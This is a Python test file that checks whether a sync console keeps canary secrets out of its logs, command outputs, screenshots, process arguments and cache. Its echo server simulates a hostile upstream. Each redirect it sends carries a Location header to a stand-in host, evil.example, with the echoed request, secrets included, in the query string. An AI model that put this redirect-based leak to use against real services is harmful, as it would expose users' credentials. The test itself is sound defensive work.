"""Secrets stay where they belong: a whole day is lived with known ones, then everything is read.

The systems of the second half send back whatever they are sent, in refusals and in redirects.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import stat
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from syncconsole.cache.tables import Process
from syncconsole.cache.tables.base import reading
from syncconsole.cli.commands import status
from syncconsole.cli.main import main
from syncconsole.config import load
from syncconsole.console.app import SyncConsole
from syncconsole.domain.runs import Mode
from syncconsole.domain.who import Who
from tests.console.fake_asking import FakeAsking
from tests.console.looking import press, settle
from tests.console.shop import StillClock
from tests.support.left import left_behind
from tests.support.premises import ROOT
from tests.support.trading import Trading

if TYPE_CHECKING:
    from collections.abc import Iterator

SECRETS = {
    name: f"canary+{name.lower()}/0123456789=="
    for name in ("BC_TOKEN", "SHOP_ID", "SHOP_TOKEN", "TILL", "SPARK")
} | {"PG": "canary.pg.0123456789"}
ENDPOINTS = """\
  bc:
    {{connector: bigcommerce, base_url: {url}, store_hash: x, token: "${{BC_TOKEN}}", location: 1}}
  granted:
    {{connector: shopify, base_url: {url}, shop: x, client_id: c, client_secret: "${{SHOP_ID}}"}}
  shopify: {{connector: shopify, base_url: {url}, shop: x, token: "${{SHOP_TOKEN}}"}}
  spark:
    connector: sparklayer
    base_url: {url}
    site_id: s
    client_id: c
    client_secret: ${{SPARK}}
  capillary:
    connector: capillary
    base_url: {url}
    till: t
    password: ${{TILL}}
    registered_from: 2026-01-01
  shelf: {{connector: files, folder: shelf}}
  postgres:
    connector: sql
    url: postgresql://ana:${{PG}}@127.0.0.1:1/nothing
    timezone: UTC
    tables: {{inventory: {{table: stock, key: sku, qty: on_hand}}, customers: {{table: c, key: c}}}}
"""
CONNECTIONS = """\
  one: {profile: inventory, store: bc, office: shelf, writes: true}
  two: {profile: inventory, store: granted, office: shelf, writes: true}
  three: {profile: inventory, store: postgres, office: shelf, writes: true}
  four: {profile: feeds, store: shopify, office: spark}
  five: {profile: store-center, store: postgres, office: capillary, writes: true}
"""


class Echo(BaseHTTPRequestHandler):
    """Answers with all it was told: by turns a refusal, a redirect to elsewhere, a login page."""

    turn = 0

    def answer(self) -> None:
        size = int(self.headers.get("content-length") or 0)
        told = f"{self.path} {dict(self.headers)} {self.rfile.read(size).decode(errors='replace')}"
        type(self).turn += 1
        status = (422, 302, 401, 200)[self.turn % 4]
        html = status == 200
        body = f"<html>{told}</html>" if html else json.dumps({"title": told, "error": told})
        self.send_response(status)
        self.send_header("content-type", "text/html" if html else "application/json")
        self.send_header("location", f"https://evil.example/?all={quote(told)}")
        self.send_header("x-request-id", quote(told))
        self.send_header("content-length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    do_GET = do_POST = do_PUT = do_DELETE = answer  # noqa: N815 - the library's names

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Nothing on stderr."""


@contextmanager
def echoing() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    thread = Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    thread.join()
    server.server_close()


def spellings(secret: str) -> set[bytes]:
    """As it is, in an address, in JSON, as a password's MD5, and in HTTP's basic scheme."""
    basic = [f"{name}:{secret}" for name in ("c", "t", "ana")]
    made = {secret, quote(secret, safe=""), json.dumps(secret)[1:-1]}
    made |= {hashlib.md5(secret.encode()).hexdigest()}
    made |= {base64.b64encode(text.encode()).decode() for text in (secret, *basic)}
    return {text.encode() for text in made}


def tokens_in(kept: bytes) -> list[str]:
    """The access and the refresh token of a sign-in."""
    return [text for name, text in json.loads(kept).items() if name in {"access", "refresh"}]


def arguments(pid: int) -> bytes:
    """What `ps` shows of a process."""
    return Path(f"/proc/{pid}/cmdline").read_bytes()


async def screens(config: Path, folder: Path) -> None:
    """Export every screen as a picture, and the rows of the inventory."""
    app = SyncConsole(
        load(config), clock=StillClock(), asking=FakeAsking(), who=Who("ana", "test"),
        environment={},
    )  # fmt: skip
    async with app.run_test(size=(140, 60)) as pilot:
        await settle(pilot)
        for n, key in enumerate("1e2X456"):
            await press(pilot, key)
            (folder / f"{n}.svg").write_text(app.export_screenshot(), encoding="utf-8")
        await press(pilot, "5", "enter", "e")
        (folder / "run.svg").write_text(app.export_screenshot(), encoding="utf-8")


@pytest.mark.pitfall("P-36")
async def test_no_secret_is_anywhere_but_in_the_token_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("PYTHONPATH", str(ROOT))
    monkeypatch.setenv("SYNCCONSOLE_CONFIG", str(tmp_path / "config.yaml"))
    said = tmp_path / "said"
    with Trading(tmp_path, items=30) as shop, echoing() as url:
        assert shop.run(Mode.FULL).state == "ok"
        said.mkdir()
        (tmp_path / "shelf").mkdir()
        (tmp_path / "shelf" / "inventory.csv").write_text("SKU,Qty\nA-1,5\n")
        path = shop.config.path
        text = path.read_text().replace(
            "connections:\n", ENDPOINTS.format(url=url) + "connections:\n"
        )
        path.write_text(text.replace("sandbox: {port", CONNECTIONS + "sandbox: {port"))
        commands = 0

        def command(line: str) -> None:
            nonlocal commands
            commands += 1
            code = main(line.split(), os.environ)
            told = capsys.readouterr()
            (said / f"{commands}.txt").write_text(f"{code} {line}\n{told.out}{told.err}")

        shop.order(shop.stocked[0], 2)
        shop.sandbox.faults.arm("expired_token", times=1)
        command("sync all shop --approve --reason canary --json")
        for name in ("one", "two", "three", "four", "five"):
            command(f"check {name} --json")
        with reading():
            workers = [row.pid for row in Process.select().where(Process.kind == "worker")]
        for pid in workers:
            (said / f"{pid}.arguments").write_bytes(arguments(pid))
        for line in (
            "sync full one --approve --reason x", "sync full two --approve --reason x --json",
            "refresh four", "sync fresh five --approve --reason x", "errors --limit 0",
            "errors --limit 0 --json", "runs --limit 0 --json", "run show 3", "audit --json",
            "config check --json", "status", "doctor one",
        ):  # fmt: skip
            command(line)

        def broken(_: object) -> None:
            raise RuntimeError(f"{SECRETS}")

        monkeypatch.setattr(status, "show", broken)
        command("status --json")
        await screens(path, said)
        tokens = list((tmp_path / "state" / "tokens").glob("*.json"))
        kept = [text for each in tokens for text in tokens_in(each.read_bytes())]
    assert workers, "a worker was seen"
    assert kept, "and somebody is signed in"
    assert {stat.S_IMODE(each.stat().st_mode) for each in tokens} == {0o600}
    problems = (said / "12.txt").read_text()
    assert problems.count("[redacted]") > 3, "the systems did echo, and it was taken out"
    needles = {spelled for secret in SECRETS.values() for spelled in spellings(secret)}
    needles |= {text.encode() for text in kept}
    left = left_behind(tmp_path)
    assert {"state/cache.sqlite3", "state/worker.log", "said/run.svg"} <= set(left)
    found = [
        (path, needle) for path, content in left.items() for needle in needles if needle in content
    ]
    assert found == []
